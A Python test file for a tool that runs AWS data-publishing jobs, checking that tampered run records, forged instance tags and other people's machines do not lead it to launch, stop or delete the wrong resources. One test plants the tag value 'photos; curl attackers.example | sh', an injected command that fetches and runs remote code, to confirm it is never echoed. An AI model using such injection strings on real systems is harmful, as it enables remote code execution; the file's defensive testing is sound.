"""Whoever may write into the bucket, or start machines: what launch.data publish --by instance and stop make of it."""

from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from launch.core.aws import Aws
from launch.core.names import tags
from launch.data.near.commands import running
from launch.data.near.follow import Follower
from launch.data.near.remove import Remover
from launch.data.near.run import PUBLISHES_TAG, read_run
from tests.launch.data.near.desk import NAME, NearDesk, opened
from tests.launch.faults import Died, Faults, died_before, injected, refused
from trainer.errors import TrainerError


@pytest.fixture
def desk(tmp_path: Path) -> Iterator[NearDesk]:
    with opened(tmp_path) as desk:
        yield desk


def leaves(desk: NearDesk, instance: Any) -> None:
    """The user presses Ctrl-C, and the instance goes on."""
    raise KeyboardInterrupt


@pytest.mark.parametrize(
    "changed",
    [
        {"code": 64 * "e"},  # code of somebody's own
        {"type": "i4i.4xlarge"},
        {"ami": "ami-0123456789abcdef0"},
        {"gib": 16_000},
        {"deadline": "2036-11-23T00:00:00Z"},
        {"started": "2000-01-01T00:00:00Z", "id": f"data-{NAME}-20000101-000000"},  # which makes its time limit long
    ],
    ids=lambda changed: min(changed),
)
def test_who_may_write_in_the_bucket_starts_nothing_in_your_name(
    changed: dict[str, Any], desk: NearDesk, capsys: pytest.CaptureFixture[str]
) -> None:
    """run.json is found before its instance is: whoever publishes data sets may write it, and start none."""
    desk.node = NearDesk.pretend_on
    with injected(Faults()) as faults:
        faults.on("RunInstances", died_before())
        with pytest.raises(Died):
            desk.near()
    desk.account.put_json(f"data-runs/{NAME}/run.json", desk.run | changed)

    assert desk.near() == 2
    assert (desk.ran, desk.instances) == (0, [])
    assert f"python -m launch.data stop {NAME}" in capsys.readouterr().err


@pytest.mark.parametrize("code", ["0; true", None, [], 1e400, -1, 256])
def test_a_strangers_record_of_the_end_is_a_failure_and_no_traceback(code: object, desk: NearDesk) -> None:
    def ends(desk: NearDesk, instance: Any) -> None:
        desk.say_end(instance, 0, "done")
        record = desk.account.s3(f"data-runs/{NAME}/exit.json")
        desk.account.put_json(f"data-runs/{NAME}/exit.json", dict(record) | {"code": code})

    desk.node = ends
    assert desk.near() == 1
    assert desk.billed() == []


@pytest.mark.parametrize(
    "changed", [{"id": "other"}, {"bucket": "strangers"}, {"account": "999999999999"}, {"name": "x"}]
)
def test_a_note_of_something_else_is_none(changed: dict[str, Any], desk: NearDesk) -> None:
    """By it `stop` would delete the time limit of another's job, or the code would go elsewhere."""
    desk.node = NearDesk.pretend_on
    assert desk.near() == 0
    own = f"aws-ddp-toolkit-{desk.run['id']}"
    desk.account.put_json(f"data-runs/{NAME}/run.json", desk.run | {"ended": ""} | changed)
    since = len(desk.account.requests)

    assert desk.type("stop", NAME) == 0
    # That of the instance, which EC2 still lists.
    assert [(call.operation, call.params["Name"]) for call in desk.writes(since)] == [("DeleteSchedule", own)]


def test_a_note_of_a_run_to_come_does_not_keep_a_stop_from_its_end(desk: NearDesk) -> None:
    """It waited for an instance that EC2 might not list yet, and failed after ten minutes, each time it was typed."""
    desk.node = leaves
    assert desk.near() == 130
    to_come = {"id": f"data-{NAME}-21990101-000000", "started": "2199-01-01T00:00:00Z"}
    desk.account.put_json(f"data-runs/{NAME}/run.json", desk.run | to_come)
    desk.node = lambda desk, instance: None
    assert desk.type("stop", NAME) == 0, desk.text
    assert (desk.instances, desk.billed()) == ([], [])


def another_launchers(desk: NearDesk, publishes: str) -> str:
    """A machine of another launcher's, with all of our tags, into which IAM lets him write any name."""
    named = tags("demo", "attackers", datetime(2026, 1, 1, tzinfo=UTC), datetime(2199, 1, 1, tzinfo=UTC), "AIDAYOU")
    named.append({"Key": "aws-ddp-toolkit:publishes", "Value": publishes})
    made = desk.account.aws().call("ec2", "RunInstances", {
        "ImageId": desk.account.ami, "InstanceType": "g5.2xlarge", "MinCount": 1, "MaxCount": 1,
        "SubnetId": desk.account.subnets["us-east-1a"],
        "TagSpecifications": [{"ResourceType": "instance", "Tags": named}],
    })  # fmt: skip
    return str(made["Instances"][0]["InstanceId"])


def test_another_launchers_machine_under_the_name_does_not_keep_it_from_being_stopped(desk: NearDesk) -> None:
    """IAM lets a launcher write any name into the tags of its own machines, and nobody else end these: EC2 refuses a
    request that names one, and with it the instance that publishes would live on.
    https://docs.aws.amazon.com/AWSEC2/latest/APIReference/API_TerminateInstances.html
    """
    desk.node = leaves
    assert desk.near() == 130
    theirs = another_launchers(desk, NAME)
    desk.node = lambda desk, instance: None
    since = len(desk.account.requests)

    assert desk.type("stop", NAME) == 0, desk.text
    assert [one.id for one in desk.instances] == [theirs]
    said = [f"{call.operation} {call.params}" for call in desk.writes(since)]
    assert [words for words in said if theirs in words or "aws-ddp-toolkit-demo" in words] == []


def test_a_machine_with_one_copied_tag_publishes_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    aws, node = Aws("us-east-1"), {"InstanceId": "i-1", "Tags": [{"Key": PUBLISHES_TAG, "Value": NAME}]}
    monkeypatch.setattr(aws, "pages", lambda *_: [{"Instances": [node]}])
    assert running(aws) == {}


def test_no_command_to_be_copied_has_a_name_that_is_none(desk: NearDesk) -> None:
    another_launchers(desk, "photos; curl attackers.example | sh")
    assert desk.type("list") == 0
    assert "curl" not in desk.text
    theirs = another_launchers(desk, NAME)
    assert desk.type("list") == 0
    assert theirs in desk.text


def test_a_colleagues_running_publication_is_not_hidden_by_ones_own_that_ended(
    desk: NearDesk, capsys: pytest.CaptureFixture[str]
) -> None:
    """EC2 lists one's own terminated instance for an hour.  An administrator may end a colleague's; others are told.
    https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/terminating-instances.html
    """
    desk.node = NearDesk.pretend_on
    assert desk.near() == 0, desk.text
    theirs = another_launchers(desk, NAME)
    desk.node = lambda desk, instance: None

    with injected(Faults()) as faults:
        faults.on("TerminateInstances", refused("UnauthorizedOperation", 403))
        assert desk.type("stop", NAME) == 4
    assert f"{theirs} publishes {NAME} for somebody else (AIDAYOU)" in desk.text
    assert f"its owner (AIDAYOU) and administrators end {theirs}" in capsys.readouterr().err
    since = len(desk.account.requests)
    assert desk.type("stop", NAME) == 0, desk.text
    assert desk.instances == []
    assert "aws-ddp-toolkit-demo" not in str(desk.writes(since))  # the job in its tags has a time limit of its own


def test_who_followed_an_earlier_run_leaves_the_next_one_alone(desk: NearDesk) -> None:
    """A laptop that slept meanwhile."""
    desk.node = NearDesk.pretend_on
    assert desk.near() == 0, desk.text
    earlier = read_run(desk.run)
    desk.node = leaves
    assert desk.near("--replace") == 130
    (there,) = desk.instances

    desk.node = lambda desk, instance: None
    with pytest.raises(TrainerError, match="it ended without a record of why"):
        Follower(desk.account.aws(), desk.clock, desk.said.append, earlier).follow()
    assert [one.id for one in desk.instances] == [there.id]
    assert desk.run["ended"] == ""


def test_a_colleagues_run_that_ended_is_left_to_its_owner(desk: NearDesk) -> None:
    """AWS would refuse to delete its group, and whoever followed it would be told that publishing failed."""
    desk.node = leaves
    assert desk.near() == 130
    theirs = replace(read_run(desk.run), owner="AIDAYOU")
    since = len(desk.account.requests)

    Remover(desk.account.aws(), desk.clock, desk.said.append, NAME).remove_run(theirs)
    assert desk.writes(since) == []
    assert "stays until its owner (AIDAYOU) removes it" in desk.text
